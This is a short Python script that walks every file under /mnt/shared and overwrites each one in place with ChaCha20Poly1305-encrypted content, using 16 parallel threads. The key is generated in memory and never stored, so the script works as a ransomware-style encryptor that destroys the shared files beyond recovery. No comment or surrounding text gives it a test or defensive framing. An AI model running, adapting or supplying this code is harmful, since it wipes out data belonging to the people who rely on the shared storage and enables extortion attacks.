import os
from concurrent.futures import ThreadPoolExecutor
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

key = ChaCha20Poly1305.generate_key()
aead = ChaCha20Poly1305(key)

def enc(path):
    nonce = os.urandom(12)
    with open(path, "rb") as f:
        pt = f.read()
    with open(path, "wb") as f:
        f.write(nonce + aead.encrypt(nonce, pt, None))

files = [os.path.join(d, n) for d, _, ns in os.walk("/mnt/shared") for n in ns]
with ThreadPoolExecutor(16) as pool:
    pool.map(enc, files)
